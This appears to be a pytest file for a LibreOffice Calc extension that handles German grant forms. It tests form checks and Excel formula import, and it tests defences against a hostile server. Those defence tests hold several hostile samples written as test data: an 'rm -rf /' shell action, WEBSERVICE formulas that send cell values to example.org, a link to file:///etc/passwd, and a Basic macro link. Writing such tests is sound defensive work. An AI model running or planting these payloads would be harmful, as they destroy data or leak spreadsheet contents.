        "Vorlage prüfen", "Neue Vorlage", "Beispiel laden", "Meldung zur Zelle", "Excel-Formeln übernehmen"
    ]  # fmt: skip
    assert ergebnis["leisten"] == {"org.pyxl.libreoffice.leiste": ["Vorlage prüfen", "Meldung zur Zelle"]}
    # "Neue Vorlage": every form once, grouped and named as in the Excel task pane's form list
    from pyxl.excel.formularwahl import gruppen

    befehl = "service:org.pyxl.libreoffice.Befehle?neue_vorlage:"
    assert ergebnis["formulare"] == {
        regelwerk: [[kurz, befehl + kennung] for kennung, kurz, _ in liste] for regelwerk, liste in gruppen()
    }
    # pyxl › Vorlage prüfen, as a click runs it (the message box of the end does not block headless)
    assert list(ergebnis["blaetter"]["Anlage 3b"]["notizen"]) == ["H46"]
    assert "geprüft – 1 Fehler" in ergebnis["blaetter"]["Prüfbericht"]["zeilen"][8][1]
    # pyxl › Meldung zur Zelle: the selected cell's message, as PYXL_MELDUNG gives it
    assert ergebnis["meldung"] == _meldung("RZW_ZUWENDUNGSSATZ", -5.0)


@pytest.mark.langsam
def test_5_a_workbook_from_excel_with_pyxl_functions_computes_after_excel_formeln_uebernehmen(calc, tmp_path):
    """LibreOffice 7.4 reads pyxl functions in an .xlsx from Excel as unknown names (#NAME?); the menu entry
    rewrites exactly those cells as this extension's functions."""
    mappe = openpyxl.Workbook()
    blatt = mappe.active
    blatt["A1"] = "=RZW_ZUWENDUNGSSATZ(5000)"  # classic xlwings
    blatt["A2"] = "=PYXL.KZ_ANTEIL(45,180)"  # Office.js, as typed
    blatt["A3"] = "=_xldudf_PYXL_RZW_ZUWENDUNGSSATZ(5000)+1"  # Office.js, as Excel stores it
    blatt["A4"] = "=SUM(1,2)"
    blatt["A5"] = "=UNBEKANNT(1)"  # #NAME? too, but no pyxl function: left alone
    datei = tmp_path / "aus Excel.xlsx"
    mappe.save(datei)
    os.chmod(tmp_path, 0o755)
    zellen = ["A1", "A2", "A3", "A4", "A5"]
    ergebnis = calc("excel_namen", {"datei": str(datei), "zellen": zellen})
    assert ergebnis["vorher"] == {"A1": 525, "A2": 525, "A3": 525, "A4": 0, "A5": 525}
    assert ergebnis["meldung"] == "3 Formeln mit pyxl-Funktionen aus Excel übernommen."
    assert ergebnis["nachher"] == {"A1": "63,57", "A2": "25", "A3": "64,57", "A4": "3", "A5": "#NAME?"}
    assert ergebnis["zweimal"] == "Keine Formel mit einer pyxl-Funktion aus Excel gefunden (nichts geändert)."


@pytest.mark.langsam
def test_5_a_command_without_a_spreadsheet_says_so_in_german(calc):
    ergebnis = calc("ohne_dokument", {"befehle": ["vorlage_pruefen", "meldung", "excel_namen", "unbekannt"]})
    assert ergebnis == {
        "vorlage_pruefen": "pyxl wirkt nur in einem Tabellendokument (LibreOffice Calc)",
        "meldung": "Bitte zuerst eine Zelle mit einer pyxl-Funktion auswählen",
        "excel_namen": "pyxl wirkt nur in einem Tabellendokument (LibreOffice Calc)",
        "unbekannt": "Unbekannter Befehl „unbekannt“",
    }


@pytest.mark.langsam
def test_5_a_correct_form_saved_by_libreoffice_has_no_findings(calc, tmp_path):
    """The check sees the document as LibreOffice writes it (.xlsx export): its own formula spelling must not
    look like a changed form."""
    datei = tmp_path / "richtig.xlsx"
    shutil.copy(BEISPIELE / "RZWAS-3B_richtig.xlsx", datei)
    os.chmod(tmp_path, 0o755)
    runde = calc("pruefen", {"datei": str(datei)})["runden"][0]
    assert "geprüft – 0 Fehler, 0 Warnungen, 0 Hinweise" in runde["blaetter"]["Prüfbericht"]["zeilen"][8][1]
    assert all(not b["notizen"] for b in runde["blaetter"].values())


@pytest.mark.langsam
def test_5_neue_vorlage_and_beispiel_laden_as_in_the_excel_add_in(calc):
    richtig = openpyxl.load_workbook(BEISPIELE / "RZWAS-3B_richtig.xlsx", data_only=True)
    soll = richtig["Anlage 3b"]["H46"].value  # the worked example's total, as LibreOffice computed it
    ergebnis = calc("vorlage", {"kennung": "RZWAS-3B", "zellen": ["Anlage 3b!H46"]})
    assert ergebnis["meldung"] == "Vorlage als neues Dokument geöffnet."
    assert ergebnis["beispiel"] == "Beispiel eingetragen."
    assert ergebnis["aus_vorlage"] == "Vorlage als neues Dokument geöffnet."  # the open form's sheets: no obstacle
    assert ergebnis["url"] == ""  # untitled: saving asks for a name, the temporary file is gone
    assert ergebnis["blaetter"][:1] == ["Anlage 3b"]
    assert ergebnis["eigenschaften"]["pyxl_formular"] == "RZWAS-3B"
    assert ergebnis["werte"]["Anlage 3b!H46"] == pytest.approx(soll, abs=0.005)


@pytest.mark.langsam
def test_5_a_sheet_protected_with_a_password_stays_as_it_is_and_the_message_says_so(calc):
    auftrag = {"kennung": "RZWAS-3B", "blatt": "Anlage 3b", "zelle": "H46", "wert": 1_500_000}
    ergebnis = calc("kennwort", auftrag)
    assert ergebnis["pruefen"] == (
        "Prüfung abgeschlossen: siehe Blatt „Prüfbericht“ und die Notizen an den Zellen. Blatt „Anlage 3b“ ist mit "
        "Kennwort geschützt: dort keine Notizen und an gesperrten Zellen keine Füllfarbe, die Befunde stehen im Blatt "
        "„Prüfbericht“."
    )
    assert (ergebnis["notiz"], ergebnis["farbe"], ergebnis["geschuetzt"]) == ("", -1, True)
    assert ergebnis["beispiel"] == (
        "Beispiel eingetragen. Blatt „Anlage 3b“ ist mit Kennwort geschützt: gesperrte Zellen dort sind unverändert."
    )


# -- attacks: a compromised server (or a man in the middle on http) answering with hostile actions


PRUEFEN = kern.SKRIPT + "vorlage_pruefen"
VORLAGE = kern.SKRIPT + "neue_vorlage"


@contextlib.contextmanager
def _feindlicher_server(calc: Calc, antworten: dict[str, list]) -> Iterator[str]:
    """A server that answers each script with the given actions; the extension's options point at it meanwhile."""
    roh = {pfad: (200, {"Content-Type": "application/json"}, json.dumps({"actions": a}).encode())
           for pfad, a in antworten.items()}  # fmt: skip
    with _server(roh) as url:
        try:
            calc.einstellen(url, token="")
            yield url
        finally:
            calc.einstellen(calc.server)


def _werte(werte: list[list], zeile: int = 0, spalte: int = 0, blatt: int = 0, **anders: object) -> dict:
    return {"func": "setValues", "sheet_position": blatt, "start_row": zeile, "start_column": spalte,
            "row_count": len(werte), "column_count": len(werte[0]), "values": werte, "args": [], **anders}  # fmt: skip


@pytest.mark.langsam
def test_7_text_from_the_server_that_looks_like_a_formula_stays_text(calc):
    """setDataArray never makes a formula: a server (or a man in the middle) cannot plant =WEBSERVICE(…)."""
    boese = ['=WEBSERVICE("http://example.org/?"&B9)', "'=1+1", "@SUM(B9)", "+B9", "-B9", "=B9"]
    with _feindlicher_server(calc, {PRUEFEN: [_werte([boese])]}):
        ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"B9": 42},
                                   "zellen": [f"{s}1" for s in "ABCDEF"]})  # fmt: skip
    assert ergebnis["meldung"].startswith("Prüfung abgeschlossen")
    zellen = ergebnis["zellen"]
    assert [zellen[f"{s}1"]["art"] for s in "ABCDEF"] == ["TEXT"] * 6
    assert [zellen[f"{s}1"]["text"] for s in "ABCDEF"] == [boese[0], "=1+1", *boese[2:]]


def _ein(func: str, *args: object, **felder: object) -> dict:
    return {"func": func, "sheet_position": 0, "start_row": 0, "start_column": 0, "row_count": 1, "column_count": 1,
            "values": [[""]], "args": list(args), **felder}  # fmt: skip


FEINDLICHE_AKTIONEN = {
    "keine Liste von Objekten": ["setValues"],
    "Aktion ohne Angaben": [{"func": "setValues"}],
    "unbekannte Aktion": [{"func": "shell", "args": ["rm -rf /"]}],
    "negative Zeile": [_werte([["x"]], zeile=-5)],
    "riesige Zeilenzahl": [_werte([["x"]], row_count=10**9)],
    "Werte passen nicht zum Bereich": [_werte([["x", "y"], ["z", "w"]], row_count=1, column_count=1)],
    "Blatt gibt es nicht": [_werte([["x"]], blatt=7)],
    "Farbe kein Hex": [_ein("setRangeColor", "#zzzzzz")],
    "Blattname keine Zeichenkette": [_ein("addSheet", 0, 5)],
    "Druckbild Unsinn": [_ein("pyxlDruckbild", "a", None, 3, [])],
    "Notiz mit falscher Adresse": [  # the first sheet is "Sheet1" or "Tabelle1", by the interface language
        _ein(
            "pyxlNotizen", [], [["Gibtsnicht", "A1", "x"], ["Sheet1", "nirgends!", "x"], ["Tabelle1", "nirgends!", "x"]]
        )
    ],
    "Vorlage kein Base64": [_ein("pyxlInsertWorksheets", "kein base64 ☹")],
}


@pytest.mark.langsam
@pytest.mark.parametrize("fall", list(FEINDLICHE_AKTIONEN))
def test_7_a_hostile_answer_is_one_german_message_and_the_sheet_is_protected_again(calc, fall):
    with _feindlicher_server(calc, {PRUEFEN: FEINDLICHE_AKTIONEN[fall]}):
        ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"A1": "Eingabe"}, "schutz": "",
                                   "zellen": ["A1"]})  # fmt: skip
    assert ergebnis["meldung"].startswith(
        ("Antwort des pyxl-Servers", "Unbekannte Aktion", "Vorlage vom Server abgelehnt")
    ), ergebnis
    assert "Traceback" not in ergebnis["meldung"] and "Exception" not in ergebnis["meldung"]
    assert ergebnis["geschuetzt"]  # the protection lifted for the marks is back
    assert ergebnis["zellen"]["A1"]["text"] == "Eingabe"


@pytest.mark.langsam
def test_7_a_hostile_server_cannot_wipe_the_clerks_sheet_or_link_to_a_macro(calc):
    makro = "vnd.sun.star.script:Standard.Module1.Boese?language=Basic&location=application"
    for aktionen, erwartet in [
        ([_ein("sheetClear")], "nur das Blatt „Prüfbericht“"),
        ([_ein("addHyperlink", makro, "Hier klicken", "")], "nur Verweise auf Zellen des Dokuments"),
        ([_ein("addHyperlink", "file:///etc/passwd#x!A1", "x", "")], "nur Verweise auf Zellen des Dokuments"),
    ]:
        with _feindlicher_server(calc, {PRUEFEN: aktionen}):
            ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"A1": "Eingabe"},
                                       "zellen": ["A1"]})  # fmt: skip
        assert erwartet in ergebnis["meldung"], ergebnis
        assert ergebnis["zellen"]["A1"] == {"art": "TEXT", "text": "Eingabe", "formel": "Eingabe",
                                                     "verweise": []}  # fmt: skip


def _xlsx(**teile: bytes | str) -> str:
    import base64
    import io

    puffer = io.BytesIO()
    mappe = openpyxl.Workbook()
    mappe.active["A1"] = "Formular"
    mappe.save(puffer)
    if teile:
        with zipfile.ZipFile(puffer, "a") as archiv:
            for name, inhalt in teile.items():
                archiv.writestr(name.replace("__", "/"), inhalt)
    return base64.b64encode(puffer.getvalue()).decode()


@pytest.mark.langsam
@pytest.mark.parametrize(
    "teile",
    [
        {"xl__vbaProject.bin": b"\0" * 64},  # macros
        {"xl__externalLinks__externalLink1.xml": "<externalLink/>"},  # links to other files
        {"xl__worksheets__sheet2.xml": '<f>_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)</f>'},  # sends cells
    ],
    ids=["makros", "externe_verknuepfung", "webservice"],
)
def test_7_a_form_from_the_server_with_macros_or_links_is_not_opened(calc, teile):
    with _feindlicher_server(calc, {VORLAGE: [_ein("pyxlInsertWorksheets", _xlsx(**teile))]}):
        ergebnis = calc("befehl", {"befehl": "neue_vorlage", "argument": "RZWAS-3B"})
    assert ergebnis["neue_dokumente"] == 0, ergebnis
    assert "Vorlage vom Server abgelehnt" in ergebnis["meldung"]


@pytest.mark.langsam
def test_7_a_whole_column_is_refused_in_german_and_costs_seconds_not_minutes(calc):
    """A hostile (or careless) sheet passes a whole column: the server refuses it (413, German); PYXL_MELDUNG says
    so without reading a million cells (Calc writes C1:C1048576 as C:C)."""
    formeln = {"A1": "=KZ_ANTEIL(C1:C1048576;1)", "B1": "=PYXL_MELDUNG(A1)",
               "A2": "=KZ_ANTEIL(C:C;1)", "B2": "=PYXL_MELDUNG(A2)"}  # fmt: skip
    ergebnis = calc("formeln", {"werte": {"C1": 5}, "formeln": formeln})
    zellen = ergebnis["zellen"]
    assert zellen["A1"]["fehler"] == 519 and zellen["A2"]["fehler"] == 519
    for zelle in ("B1", "B2"):
        assert zellen[zelle]["text"] == (
            "KZ_ANTEIL: Argument 1 („C:C“) ist eine ganze Spalte oder Zeile – bitte nur den benutzten Bereich "
            "übergeben, z. B. C2:C200"
        )
    assert ergebnis["dauer"] < 20
